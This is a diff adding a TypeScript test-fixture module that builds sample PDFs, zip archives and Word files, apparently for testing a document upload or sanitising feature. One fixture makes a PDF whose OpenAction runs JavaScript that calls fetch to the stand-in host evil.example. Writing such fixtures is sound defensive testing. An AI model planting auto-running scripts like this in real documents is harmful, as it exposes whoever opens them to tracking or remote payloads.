@@ -1,0 +1,61 @@
+import { deflateSync } from 'node:zlib'
+import { strToU8, zipSync } from 'fflate'
+import { FACES, startSheet } from './pdf.ts'
+
+/** A PDF of these pages of text. */
+export async function aPdf(...pages: string[]): Promise<Buffer> {
+  const { page: sheet, ended } = startSheet({ title: 'Un essai', author: 'Essai', creator: 'Essai' })
+  sheet.font(FACES.text).fontSize(12)
+  for (const [at, text] of pages.entries()) {
+    if (at > 0) sheet.addPage()
+    sheet.text(text)
+  }
+  sheet.end()
+  return await ended
+}
+
+type Parts = Record<string, string>
+
+/** A PDF of one page that draws `content`, with whatever else is to be in its catalogue. */
+export function aRawPdf(content: Buffer, catalogue = '', objects: readonly string[] = []): Buffer {
+  const packed = deflateSync(content)
+  const stream = Buffer.concat([
+    Buffer.from(`<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n`),
+    packed,
+    Buffer.from('\nendstream'),
+  ])
+  const bodies = [
+    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R
+      /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`,
+    stream,
+    ...objects,
+  ]
+  const written: Buffer[] = [Buffer.from('%PDF-1.7\n')]
+  const places = bodies.map((body, at) => {
+    const place = written.reduce((sum, { length }) => sum + length, 0)
+    written.push(Buffer.from(`${at + 1} 0 obj\n`), Buffer.from(body), Buffer.from('\nendobj\n'))
+    return place
+  })
+  const end = written.reduce((sum, { length }) => sum + length, 0)
+  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
+  const size = places.length + 1
+  written.push(Buffer.from(`xref\n0 ${size}\n0000000000 65535 f \n${table}`))
+  written.push(Buffer.from(`trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${end}\n%%EOF\n`))
+  return Buffer.concat(written)
+}
+
+/** A PDF that has a script run as it is opened. */
+export const aPdfWithScript = () =>
+  aRawPdf(Buffer.from('BT /F 12 Tf 20 200 Td (Bonjour) Tj ET'), '/OpenAction 5 0 R', [
+    `<< /S /JavaScript /JS (app.alert\\("script"\\); fetch\\("https://evil.example"\\)) >>`,
+  ])
+
+/** An archive of these files. */
+export const anArchive = (parts: Parts): Buffer =>
+  Buffer.from(zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)]))))
+
+/** A Word document, with whatever else is to be in it. */
+export const aDocx = (more: Parts = {}): Buffer =>
+  anArchive({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', ...more })
